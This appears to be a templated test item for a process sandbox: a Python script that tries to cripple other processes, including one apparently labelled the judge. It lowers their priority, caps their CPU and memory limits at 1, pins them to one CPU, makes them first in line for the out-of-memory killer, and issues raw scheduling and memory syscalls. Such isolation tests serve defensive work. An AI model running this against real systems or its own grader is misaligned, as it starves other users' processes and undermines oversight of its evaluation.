"""Changes the priority, the limits, the processors and the memory of other processes."""

# answers: two
# earns: 20

# %% first
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(number, *args):
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
def attempt(f, *args):
    try:
        return f(*args)
    except BaseException as error:
        return f"{type(error).__name__}"
def read(path, size=200_000):
    return attempt(lambda: open(path, "rb").read(size))
import resource
for pid in (@JUDGE@, @VICTIM@, *@ZYGOTES@):
    attempt(os.setpriority, os.PRIO_PROCESS, pid, 19)
    attempt(resource.prlimit, pid, resource.RLIMIT_CPU, (1, 1))
    attempt(resource.prlimit, pid, resource.RLIMIT_AS, (1, 1))
    attempt(os.sched_setaffinity, pid, {0})
    attempt(os.sched_setscheduler, pid, os.SCHED_IDLE, os.sched_param(0))
    attempt(lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("1000"))
    call(256, pid, 64, None, None)
    call(251, 1, pid, 3 << 13)
